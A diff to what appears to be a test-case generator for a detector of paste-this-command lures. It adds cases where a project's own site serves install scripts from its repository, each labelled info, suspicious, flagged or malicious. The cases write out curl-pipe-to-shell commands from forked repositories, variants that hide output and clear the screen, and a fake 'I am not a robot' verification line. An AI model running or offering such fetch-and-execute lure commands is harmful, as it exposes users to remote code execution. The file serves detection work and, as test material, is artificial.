@@ -16,12 +16,14 @@ source, target}; `technique` names the technique, `benign-<technique>` its devel
 - `archive-then-start`: a release zip downloaded, unpacked with Expand-Archive or tar and its
   program started: `info` from the project's own page; `malicious` (or at least `flagged`)
   from someone else's releases, an unrelated page, plain HTTP or a raw IP;
-- `product-page`, `twin-domain`: a company's docs page about a product whose own site serves
-  the script (`vendor.com/docs/<product>/…` and `<product>.dev`), and one name under two suffixes
-  (`<name>.com` and `<name>.sh`): `info`; a page naming a product while the script comes from
-  a look-alike of a known vendor, over HTTP or from a longer name: `flagged` or `malicious`;
-- `stranger-page-lure-trait`: a terminal command from a page that shares nothing with its download host and
-  has a lure trait (a script posing as a picture, a CMS upload folder, output thrown away, the
+- `product-page`, `twin-domain`, `repo-site`: a company's docs page about a product whose own
+  site serves the script (`vendor.com/docs/<product>/…` and `<product>.dev`), one name under two
+  suffixes (`<name>.com` and `<name>.sh`), a project's site named like its repository
+  (`widgetsmith.dev` and `github.com/acme-tools/widgetsmith`): `info`; a page naming a product
+  while the script comes from a look-alike of a known vendor, over HTTP, from a longer name or
+  from another repository: `flagged` or `malicious`;
+- `stranger-page-lure-trait`: a terminal command from a page that shares nothing with its
+  download host and has a lure trait (a script posing as a picture, a CMS upload folder, output thrown away, the
   screen cleared after, a hidden window, padding and a fake verification line): `malicious`;
   the same download with no trait from such a page: `suspicious` (a warning, not a block), and
   official installers quoted by docs on another domain: `info`;
@@ -84,6 +86,18 @@ PRODUCT_PAGES = [
     ("greywater.io", "docs/tern/installation", "tern.build"),
     ("bluecanopy.com", "resources/hivemind/install", "hivemind.tools"),
     ("copperkite.com", "docs/ravelry-cli/install", "ravelry-cli.dev"),
+]
+# A project's own site named like its repository, not like the account that holds it:
+# (site domain, forge, account, repository).
+REPO_SITES = [
+    ("widgetsmith.dev", "github", "acme-tools", "widgetsmith"),
+    ("ohmyprompt.dev", "github", "jdoe", "oh-my-prompt"),
+    ("tallyctl.io", "github", "northwind-labs", "tallyctl"),
+    ("burrowfs.org", "gitlab", "fernhollow", "burrowfs"),
+    ("lanternd.sh", "github", "lanternfish", "lanternd"),
+    ("quartzrun.app", "gitlab", "quartzlake", "quartz_run"),
+    ("mothball.dev", "github", "pebble-hq", "mothball"),
+    ("skiffctl.io", "github", "blue-heron-io", "skiffctl"),
 ]
 # One name under two suffixes: (page domain, script domain).
 TWIN_DOMAINS = [
@@ -300,6 +314,34 @@ def product_page_cases() -> list[dict[str, str]]:
                  f"curl -fsSL https://{script_domain}/install.sh | sh  # ✅ I am not a robot: "
                  f"verification {7100 + n}", "malicious", LURE, "linux", page, "terminal"),
         ]  # fmt: skip
+    for n, (site, forge, owner, repo) in enumerate(REPO_SITES, start=1):
+        page = f"https://{site}/docs/install"
+        if forge == "github":
+            scripts = [
+                f"https://raw.githubusercontent.com/{owner}/{repo}/main/install.sh",
+                f"https://github.com/{owner}/{repo}/releases/latest/download/install.sh",
+                f"https://{owner}.github.io/{repo}/install.sh",
+            ]
+            fork = f"https://raw.githubusercontent.com/{owner}-dev/{repo}-fork/main/install.sh"
+        else:
+            scripts = [
+                f"https://gitlab.com/{owner}/{repo}/-/raw/main/install.sh",
+                f"https://gitlab.com/{owner}/{repo}/-/releases/permalink/latest/downloads/install.sh",
+                f"https://{owner}.gitlab.io/{repo}/install.sh",
+            ]
+            fork = f"https://gitlab.com/{owner}-dev/{repo}-fork/-/raw/main/install.sh"
+        for k, script in enumerate(scripts, start=1):
+            out.append(case(f"i-repo-site-own-{n}-{k}", f"curl -fsSL {script} | sh", "info",
+                            BENIGN, "linux", page, "terminal"))  # fmt: skip
+        out += [
+            # another repository that only contains the name
+            case(f"i-repo-site-fork-{n}", f"curl -fsSL {fork} | sh", "suspicious", LURE,
+                 "linux", page, "terminal"),
+            case(f"i-repo-site-trait-{n}", f"curl -fsSL {scripts[0]} | sh >/dev/null 2>&1; clear",
+                 "flagged", LURE, "linux", page, "terminal"),
+            case(f"i-repo-site-run-box-{n}", f"curl -fsSL {scripts[0]} | sh", "malicious", LURE,
+                 "windows", page, "run_dialog"),
+        ]  # fmt: skip
     # a page that names a known vendor's product while the script imitates that vendor
     for n, host in enumerate(IMITATED, start=1):
         brand = host.split("-")[0]
@@ -442,6 +484,8 @@ TECHNIQUES = [
     ("i-product-own-", "benign-product-page"),
     ("i-product-", "product-page"),
     ("i-twin-own", "benign-twin-domain"),
+    ("i-repo-site-own-", "benign-repo-site"),
+    ("i-repo-site-", "repo-site"),
     ("i-twin-", "twin-domain"),
     ("i-stranger-own-page-", "benign-stranger-host-own-page"),
     ("i-stranger-no-trait-", "stranger-page-no-trait"),
